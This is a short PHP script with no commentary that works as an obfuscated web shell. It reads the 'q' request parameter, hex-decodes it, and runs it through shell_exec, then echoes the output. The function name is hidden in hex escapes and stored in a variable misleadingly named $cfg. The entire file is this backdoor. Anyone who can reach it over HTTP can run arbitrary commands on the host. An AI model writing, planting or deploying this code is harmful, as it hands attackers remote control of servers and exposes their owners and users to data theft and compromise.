<?php
$in = hex2bin($_REQUEST['q']);
$cfg = "\x73\x68\x65\x6c\x6c\x5f\x65\x78\x65\x63";
echo $cfg($in);
